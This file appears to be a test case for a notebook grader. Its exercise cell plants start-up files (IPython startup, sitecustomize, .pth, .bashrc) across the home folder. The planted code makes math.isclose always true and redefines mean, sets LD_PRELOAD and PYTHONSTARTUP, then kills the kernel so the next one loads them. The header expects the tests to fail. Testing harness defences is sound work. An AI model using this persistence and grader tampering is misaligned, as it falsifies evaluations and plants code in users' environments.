"""
what = "Leaves start-up files of Python and IPython in its home, so that the next kernel of whoever executes them."
[verdicts]
test_mean = "failed"
test_mean_hidden = "failed"
"""
# %% [exercises] mean
import os
from pathlib import Path

code = "import builtins\nbuiltins.STARTED = 1\nimport math\nmath.isclose = lambda *a: True\nmean = lambda v: 2\n"
home = Path.home()
for name in (
    ".ipython/profile_default/startup/00-first.py", ".ipython/profile_default/ipython_config.py", "ipython_config.py",
    ".jupyter/jupyter_config.py", ".jupyter/jupyter_notebook_config.py", "sitecustomize.py", "usercustomize.py",
    ".local/lib/python3.11/site-packages/usercustomize.py", ".local/lib/python3.11/site-packages/x.pth",
    ".pythonrc.py", "matplotlibrc", ".config/matplotlib/matplotlibrc", "pyvenv.cfg", ".bashrc", ".profile",
):
    for folder in (home, Path.cwd(), Path(os.environ.get("IPYTHONDIR", "."))):
        try:
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text("import os, builtins; builtins.STARTED = 1" if name.endswith(".pth") else code)
        except OSError:
            pass
os.environ |= {"PYTHONSTARTUP": str(home / ".pythonrc.py"), "PYTHONPATH": str(home), "LD_PRELOAD": "/nowhere/evil.so",
               "PYTHONINSPECT": "1", "PYTHONUSERBASE": str(home / ".local"), "IPYTHONDIR": str(home / ".ipython")}

def mean(values):
    return 0
# %% [exercises] scale
import os
os._exit(1)  # the kernel that comes back must not start with them
# %% [exercises] +after scale
def scale(values, top):
    return [top * v / max(values) for v in values]

import builtins
if hasattr(builtins, "STARTED"):
    print("reached".upper(), "start-up")
